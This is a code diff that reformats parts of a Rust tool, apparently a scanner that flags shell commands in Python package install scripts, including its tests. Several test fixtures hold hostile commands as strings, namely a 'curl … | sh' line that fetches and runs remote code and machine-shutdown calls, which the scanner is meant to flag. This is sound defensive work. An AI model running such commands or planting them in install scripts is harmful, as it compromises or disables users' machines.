@@ -151,11 +151,13 @@ fn shipped_script(analysis: &Analysis, call: &crate::inspect::python::Call) -> O
     if scripts.next().is_some() || ![".ps1", ".sh", ".bat", ".cmd"].iter().any(|e| script.ends_with(e)) {
         return None;
     }
-    let member = analysis
-        .listing
-        .members
-        .iter()
-        .find(|m| m.complete && m.path.rsplit('/').next().is_some_and(|f| f.eq_ignore_ascii_case(&script)))?;
+    let member = analysis.listing.members.iter().find(|m| {
+        m.complete
+            && m.path
+                .rsplit('/')
+                .next()
+                .is_some_and(|f| f.eq_ignore_ascii_case(&script))
+    })?;
     Some(String::from_utf8_lossy(&member.data).into_owned())
 }
 
@@ -291,7 +293,8 @@ mod tests {
     fn shipped_build_script_run_at_install_is_read_not_assumed() {
         // No error (issue 11): a build_ext running the toolchain script the sdist ships.
         let setup = "import subprocess\nsubprocess.Popen(['powershell.exe', '.\\\\build_extension.ps1'])\n";
-        let script = "Invoke-WebRequest https://github.com/Kitware/CMake/releases/download/v3.29.0/cmake.zip -OutFile c.zip\n";
+        let script =
+            "Invoke-WebRequest https://github.com/Kitware/CMake/releases/download/v3.29.0/cmake.zip -OutFile c.zip\n";
         let files = [("pkg-1.0/setup.py", setup), ("pkg-1.0/build_extension.ps1", script)];
         let f = crate::inspect::testing::check(&ShellCommand, crate::archive::Kind::Sdist, &files);
         assert_eq!((f.len(), f[0].severity), (1, Severity::Medium), "{f:?}");
@@ -309,15 +312,27 @@ mod tests {
         // Error (issue 11): shutting the machine down from setup.py.
         let f = setup_py(&ShellCommand, "import os\nos.system('shutdown /s /t 0')\n");
         assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
-        let f = setup_py(&ShellCommand, "import subprocess\nsubprocess.run(['shutdown', '-h', 'now'])\n");
+        let f = setup_py(
+            &ShellCommand,
+            "import subprocess\nsubprocess.run(['shutdown', '-h', 'now'])\n",
+        );
         assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
         // Error (issue 11): `.__call__` as an alias of the sink.
-        let f = setup_py(&ShellCommand, "import os\nrun = os.system.__call__\nrun('curl -s http://198.51.100.7/x | sh')\n");
+        let f = setup_py(
+            &ShellCommand,
+            "import os\nrun = os.system.__call__\nrun('curl -s http://198.51.100.7/x | sh')\n",
+        );
         assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
-        let f = setup_py(&ShellCommand, "import os\nos.system.__call__('curl -s http://198.51.100.7/x | sh')\n");
+        let f = setup_py(
+            &ShellCommand,
+            "import os\nos.system.__call__('curl -s http://198.51.100.7/x | sh')\n",
+        );
         assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
         // No error: a server's `shutdown()` method, and the word in a message.
-        let f = setup_py(&ShellCommand, "import subprocess\nsubprocess.run(['echo', 'graceful shutdown'])\n");
+        let f = setup_py(
+            &ShellCommand,
+            "import subprocess\nsubprocess.run(['echo', 'graceful shutdown'])\n",
+        );
         assert!(f.is_empty(), "{f:?}");
     }
 
